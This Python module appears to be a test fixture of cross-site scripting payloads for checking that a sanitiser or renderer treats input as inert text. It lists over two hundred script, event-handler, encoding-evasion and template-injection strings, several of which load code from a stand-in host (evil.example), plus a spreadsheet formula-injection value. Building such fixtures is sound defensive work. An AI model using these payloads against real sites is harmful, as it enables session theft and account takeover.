"""Texts that would run as a script somewhere, if they were ever taken for anything but text."""

from __future__ import annotations

from collections.abc import Sequence
from itertools import product
from typing import Final

RUN: Final = "window.ran=1"
"""What each of them would do."""

TAGS: Final = ("img src=x", "svg", "video src=x", "audio src=x", "body", "input autofocus", "div")
HANDLERS: Final = ("onerror", "onload", "onfocus", "onclick", "ontoggle", "onpointerenter")
QUOTES: Final = ("", '"', "'")

SINGLE: Final = (
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"</script><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext></table><img src=x onerror={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    f"<a href=javascript:{RUN}>here</a>",
    f"<form action=javascript:{RUN}><button>go</button></form>",
    f"<details open ontoggle={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<style>@import '//evil.example/x.css'</style><p style=x:expression({RUN})>",
    f"--><img src=x onerror={RUN}>",
    f"]]><img src=x onerror={RUN}>",
    f"</textarea><img src=x onerror={RUN}>",
    f"</title><img src=x onerror={RUN}>",
    f"</style><img src=x onerror={RUN}>",
    f'" autofocus onfocus={RUN} x="',
    f"' autofocus onfocus={RUN} x='",
    f"`-{RUN}-`",
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"#{{{RUN}}}",
    f"<%= {RUN} %>",
    f"javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"<custom-element onpointerenter={RUN}>",
    '{"__html":"<img src=x>"}',
)

SCRIPTS: Final = (
    *SINGLE,
    *(
        f"{quote}><{tag} {handler}={quote}{RUN}{quote}>"
        for tag, handler, quote in product(TAGS, HANDLERS, QUOTES)
    ),
    *(f"<{tag}/{handler}={RUN}//" for tag, handler in product(TAGS, HANDLERS)),
)
"""More than two hundred."""

NAMES: Final = (
    *("<script>ran=1</script>", "<img src=x onerror=ran=1>", "<svg onload=ran=1>", "<b>Bold</b>"),
    *('"onfocus=ran=1 autofocus x="', "'><img src=y onerror=ran=2>", "</p><svg/onload=ran=1>"),
    *("{{ran=1}}", "${ran=1}", "javascript:ran=1", "<a href=javascript:ran=1>", "&lt;b&gt;x"),
    *("<iframe src=javascript:ran=1>", "<body onload=ran=1>", "=cmd|' /C calc'!A0", "--><svg>"),
)
"""The same, short enough for a name."""


def packed(most: int, scripts: Sequence[str] = SCRIPTS) -> list[str]:
    """All of them, as many to a text as there is room."""
    texts = [""]
    for script in scripts:
        words = script.replace("\t", " ")
        if len(texts[-1]) + len(words) + 1 > most:
            texts.append("")
        texts[-1] = f"{texts[-1]} {words}".strip()
    return texts
